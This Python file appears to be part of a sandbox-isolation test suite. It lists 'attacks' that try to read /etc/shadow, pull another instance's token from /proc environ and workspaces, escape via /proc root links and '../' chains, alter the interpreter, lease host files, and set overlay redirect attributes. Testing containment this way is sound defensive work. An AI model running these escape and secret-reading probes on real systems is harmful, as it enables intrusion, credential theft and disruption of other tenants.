"""Attacks on files: the host's, the gateway's, other instances', and those that instances share."""

from __future__ import annotations

import fcntl
import os
from collections.abc import Callable, Iterator

from attempt import Contained, Given, attack, attacks, first, main, own, reached, touch

attacks(
    {
        "read_shadow": ("could open /etc/shadow", lambda given: touch("/etc/shadow", os.O_RDONLY)),
        "read_home_folder": ("{}", lambda given: _read(given["secret"], given)),
        "read_gateway_store": ("the gateway's home has {}", lambda given: os.listdir(given["gateway_home"])),
        # A file of the system's folders that only the host's root may read.
        "read_private_system_files": ("could open it", lambda given: touch(given["private"], os.O_RDONLY)),
        "change_system_files": ("could write to one", lambda given: touch(given["system_file"], os.O_WRONLY)),
        # The code of the environment, which all its instances run.
        "change_environment": ("could write to its code", lambda given: touch(given["project_file"], os.O_WRONLY)),
        "change_interpreter": (f"could write to {os.__file__}", lambda given: touch(os.__file__, os.O_WRONLY)),
        # Files by number, past every path and mount.
        "open_by_handle": ("{}", lambda _: reached("open_by_handle_at", -1, b"\0" * 64, 0, errors=(9, 22, 116))),
    }
)


@attack
def read_other_instance(given: Given) -> str:
    """Another instance holds the token in its workspace and its variables; look everywhere that processes show."""
    token = given["token"].encode()
    for number in _numbers():
        for path in ("environ", "root/workspace/token", "cwd/token", "root/run/variables.json"):
            try:
                with open(f"/proc/{number}/{path}", "rb") as file:
                    if token in file.read(1 << 16):
                        return f"the token of another instance is in /proc/{number}/{path}"
            except OSError:
                continue
    raise Contained("no process shows the token")


@attack
def climb_out_by_proc(given: Given) -> str:
    roots = (f"/proc/{number}/{name}" for number in ("self", *_numbers()) for name in ("root", "cwd"))
    paths = (f"{root}{'/..' * 16}{given['secret']}" for root in roots)
    return f"read {first(paths, lambda path: _read(path, given), 'no process has another root')}"


@attack
def climb_out_by_dots(given: Given) -> str:
    os.chdir("/" + "../" * 64)
    return _read("../" * 64 + given["secret"].lstrip("/"), given)


@attack
def change_interpreter_by_proc(given: Given) -> str:
    """/proc/self/exe leads to the program as it was started, by whatever mount that was."""
    mode = os.stat("/proc/self/exe").st_mode & 0o7777
    ways: dict[str, Callable[[], object]] = {
        "chmod": lambda: os.chmod("/proc/self/exe", mode),
        "utime": lambda: os.utime("/proc/self/exe", (0, 0)),
        "setxattr": lambda: os.setxattr("/proc/self/exe", "user.attack", b"1"),
        "write": lambda: touch("/proc/self/exe", os.O_WRONLY),
    }
    what = first(ways, lambda what: ways[what](), "the program cannot be changed")
    return f"could {what} the program {os.readlink('/proc/self/exe')!r}"


@attack
def lease_files(given: Given) -> str:
    """Opening a file under a lease waits for the holder, up to 45 s: also on the host, and in the gateway."""
    place = own(given, "leased")
    with open(place, "w") as file:
        file.write("x")

    def lease(path: str) -> None:
        with open(path) as leased:
            fcntl.fcntl(leased, fcntl.F_SETLEASE, fcntl.F_WRLCK)

    paths = (place, given["system_file"], given["project_file"])
    return f"has a lease on {first(paths, lease, 'no lease was given')}"


@attack
def mark_as_overlay(given: Given) -> str:
    """The attributes by which overlay file systems redirect a folder to another."""
    place = own(given, "marked")
    os.makedirs(place, exist_ok=True)
    os.setxattr(place, "trusted.overlay.redirect", b"/etc")
    return "could redirect a folder"


def _read(path: str, given: Given) -> str:
    with open(path) as file:
        if given["token"] not in file.read():
            raise Contained(f"{path} is another file")
    return f"read {path}"


def _numbers() -> Iterator[str]:
    return (name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid())


if __name__ == "__main__":
    main()
